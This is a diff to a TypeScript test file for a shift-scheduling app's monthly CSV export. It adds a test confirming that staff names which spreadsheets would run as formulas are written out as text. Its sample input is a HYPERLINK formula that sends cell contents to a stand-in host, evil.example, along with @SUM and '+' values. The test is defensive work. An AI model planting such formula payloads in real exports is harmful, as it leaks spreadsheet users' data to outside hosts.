@@ -6,6 +6,7 @@ import { createTestApp, type TestApp } from '../../testing/test-app.ts';
 
 let t: TestApp;
 let reader: ReturnType<typeof storeCaller>;
+let owner: { clientId: number; cookie: string };
 const ids = { s1: 0, s2: 0, helper: 0 };
 
 const at = (local: string) => `${local}:00+09:00`;
@@ -22,6 +23,7 @@ beforeAll(async () => {
   const a = await createClientWithUsers(t.app, t.db);
   const store = await createShiftStore(t.db, a.client.id);
   reader = storeCaller(t.app, store.id, a.staff.cookie);
+  owner = { clientId: a.client.id, cookie: a.staff.cookie };
   const s1 = await createStaff(t.db, store, { displayName: '一郎', employeeNumber: 'E-01' });
   const s2 = await createStaff(t.db, store, { displayName: '二郎' });
   const helper = await createStaff(t.db, store, { helperName: '佐藤, ヘルプ' });
@@ -205,5 +207,30 @@ describe('monthly CSV', () => {
       day(totals, 31),
     ]).toEqual(['日計', '12.75', '4.5', '0', '7', '1', '4']);
     expect(totals.at(-1)).toBe('29.25');
+  });
+
+  it('writes names a spreadsheet would run as formulas as text: a LINE display name, a helper, a number', async () => {
+    const store = await createShiftStore(t.db, owner.clientId);
+    const caller = storeCaller(t.app, store.id, owner.cookie);
+    const evil = await createStaff(t.db, store, {
+      displayName: '=HYPERLINK("http://evil.example/?"&A1,"開く")',
+      employeeNumber: '+81-3-1234',
+    });
+    const helper = await createStaff(t.db, store, { helperName: '@SUM(A1:A9)' });
+    for (const staffId of [evil.id, helper.id])
+      await createShift(t.db, store, {
+        staffId,
+        status: 'APPROVED',
+        startAt: at('2027-01-05T09:00'),
+        endAt: at('2027-01-05T12:00'),
+      });
+    const response = await caller('GET', '/staff-shift/monthly/csv', { query: { year: '2027', month: '1' } });
+    expect(response.statusCode).toBe(200);
+    const lines = response.rawPayload.subarray(3).toString('utf8').trimEnd().split('\r\n');
+    expect(lines[1]!.startsWith(`"'=HYPERLINK(""http://evil.example/?""&A1,""開く"")",'+81-3-1234,`)).toBe(
+      true,
+    );
+    expect(lines[2]!.startsWith("'@SUM(A1:A9),,")).toBe(true);
+    for (const line of lines) expect(line).not.toMatch(/(^|,)[=+\-@]/);
   });
 });
